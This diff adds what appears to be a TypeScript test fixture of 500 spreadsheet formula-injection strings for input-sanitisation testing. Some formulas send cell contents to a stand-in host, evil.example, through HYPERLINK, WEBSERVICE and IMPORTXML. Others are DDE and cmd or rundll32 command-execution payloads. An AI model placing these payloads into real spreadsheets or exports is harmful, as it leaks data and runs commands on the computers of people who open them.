@@ -1,0 +1,55 @@
+/** Texts that somebody could put into a register so that a spreadsheet computes them. */
+
+const SIGNS = [
+  '=',
+  '+',
+  '-',
+  '@',
+  '\t',
+  '\r',
+  '\n',
+  '＝',
+  '＋',
+  '－',
+  '＠',
+  '\t=',
+  '\r\n=',
+  '\n+',
+  '=-',
+  '+=',
+  '-+',
+  '@@',
+  "'=",
+  "''-",
+];
+
+const FORMULAS = [
+  '1+1',
+  'SUM(A1:A9)',
+  'HYPERLINK("https://evil.example?x="&A1,"click")',
+  'WEBSERVICE("https://evil.example/"&B2)',
+  "cmd|' /C calc'!A0",
+  'DDE("cmd";"/C calc";"!A0")',
+  'IMPORTXML(CONCAT("https://evil.example/?v=",A1),"//a")',
+  "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''",
+  'IF(1=1,"yes","no")',
+  "2+5+cmd|' /C notepad'!A0",
+  'A1',
+  '"',
+  '",=1+1,"',
+  ';=1+1;',
+  'INDIRECT("A"&1)',
+  "rundll32|'URL.dll,OpenURL calc.exe'!A",
+  '10%',
+  'EXEC("calc")',
+  'REGISTER.ID("x")',
+  'LAMBDA(x,x)(1)',
+  'IMAGE("https://evil.example/p.png")',
+  '[x.xlsx]Sheet1!A1',
+  '__proto__',
+  'constructor',
+  '{1,2}',
+];
+
+/** Five hundred: each formula after each sign. */
+export const PAYLOADS: string[] = SIGNS.flatMap((sign) => FORMULAS.map((formula) => sign + formula));
